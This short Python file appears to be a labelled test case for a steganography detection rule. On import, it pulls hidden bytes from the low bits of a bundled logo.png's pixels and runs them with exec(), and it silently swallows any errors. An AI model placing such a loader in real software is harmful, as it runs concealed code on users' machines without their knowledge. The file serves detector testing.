import os

from PIL import Image


def _boot():
    img = Image.open(os.path.join(os.path.dirname(__file__), 'logo.png'))
    bits = ''.join(str(px[0] & 1) for px in img.getdata())
    raw = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
    # ruleid: code/steganography
    exec(raw.split(b'\x00')[0].decode('utf-8', 'ignore'))


try:
    _boot()
except Exception:
    pass
